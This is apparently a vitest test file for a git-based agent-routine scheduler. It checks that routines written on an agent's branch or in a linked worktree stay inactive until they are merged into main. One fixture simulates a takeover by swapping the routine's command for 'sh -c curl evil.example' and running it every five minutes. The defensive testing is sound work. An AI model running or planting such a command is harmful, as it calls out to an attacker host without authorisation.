/** A branch that is looked at must not arm what is written on it. Driven through the program as it ships. */
import { existsSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { gitRepo } from '../kit/git-repo.ts';
import { workspaceOf, type TestWorkspace } from '../kit/workspace.ts';

const SWEEP = [
  'name: Nightly sweep',
  'on: { schedule: "0 2 * * *" }',
  'agent: { engine: command, command: ["true"], prompt: Look at src/ and report. }',
  '',
].join('\n');

function project(): TestWorkspace {
  return workspaceOf(
    gitRepo({
      'roundsman.yaml': 'timezone: Europe/Berlin\n',
      'routines/sweep.yaml': SWEEP,
      'src/main.ts': 'export const one = 1;\n',
    }),
  );
}

interface Listed {
  readonly id: string;
  readonly name: string;
  readonly active: boolean;
  readonly next: string | null;
  readonly source: string | null;
  readonly local: string | null;
}

function listed(workspace: TestWorkspace): readonly Listed[] {
  const all: readonly Listed[] = JSON.parse(workspace.roundsman('list', '--json').stdout);
  return all.map(({ id, name, active, next, source, local }) => ({
    id,
    name,
    active,
    next,
    source,
    local,
  }));
}

describe('a branch that an agent left', () => {
  it('arms nothing while it is checked out, and what it holds once it is merged', () => {
    const workspace = project();
    const { repo } = workspace;
    const before = listed(workspace);
    expect(before).toMatchObject([{ id: 'sweep', active: true, source: 'ref', local: null }]);

    repo.git('switch', '--quiet', '-c', 'roundsman/sweep/2026-11-21-abc123');
    repo.commit({
      files: {
        'roundsman.yaml': 'timezone: Asia/Tokyo\nname: taken-over\n',
        'routines/sweep.yaml': SWEEP.replace('"true"', '"sh", "-c", "curl evil.example"').replace(
          '0 2',
          '*/5 *',
        ),
        'routines/second.yaml': SWEEP.replace('Nightly sweep', 'Second'),
      },
    });
    const [second, sweep] = listed(workspace);
    expect(second).toEqual({
      id: 'second',
      name: 'Second',
      active: false,
      next: null,
      source: null,
      local: 'new',
    });
    expect(sweep).toEqual({ ...before[0], local: 'changed' });
    const { stdout } = workspace.roundsman('list');
    expect(stdout).toMatch(/^second .* local, not active$/m);
    expect(stdout).toMatch(/^sweep .* local, not active \(active: the version at main\)$/m);

    repo.git('switch', '--quiet', 'main');
    expect(listed(workspace)).toEqual(before);

    repo.git('merge', '--quiet', '--ff-only', 'roundsman/sweep/2026-11-21-abc123');
    expect(listed(workspace)).toMatchObject([
      { id: 'second', active: true, local: null },
      { id: 'sweep', active: true, local: null },
    ]);
    expect(workspace.roundsman('list').stdout).not.toContain('not active');
  });

  it('arms nothing in a linked worktree either, and a detached HEAD is none of our business', () => {
    const workspace = project();
    const { repo } = workspace;
    const before = listed(workspace);
    const linked = join(repo.path, '..', 'linked-worktree-of-a-reviewer');
    repo.git('worktree', 'add', '--quiet', '-b', 'review', linked);
    try {
      repo.git('-C', linked, 'rm', '--quiet', 'routines/sweep.yaml');
      repo.git('-C', linked, 'commit', '--quiet', '-m', 'gone here');
      expect(listed(workspace)).toEqual(before);
      const inside = workspaceOf({ ...repo, path: linked });
      const here: readonly Listed[] = JSON.parse(inside.roundsman('list', '--json').stdout);
      expect(here).toMatchObject([{ id: 'sweep', active: true, source: 'ref', local: 'missing' }]);
      expect(inside.roundsman('list').stdout).toContain(
        'not in this checkout (active: the version at main)',
      );
    } finally {
      repo.git('worktree', 'remove', '--force', linked);
    }
    repo.git('switch', '--quiet', '--detach', 'HEAD');
    expect(listed(workspace)).toEqual(before);
    expect(existsSync(linked)).toBe(false);
  });

  it('cannot point the daemon at itself', () => {
    const workspace = project();
    const { repo } = workspace;
    repo.git('switch', '--quiet', '-c', 'agent');
    repo.commit({
      files: {
        'roundsman.yaml': 'timezone: Europe/Berlin\ndefinitions: { ref: agent }\n',
        'routines/second.yaml': SWEEP,
      },
    });
    expect(listed(workspace)).toMatchObject([
      { id: 'second', active: false },
      { id: 'sweep', active: true, local: null },
    ]);
  });
});
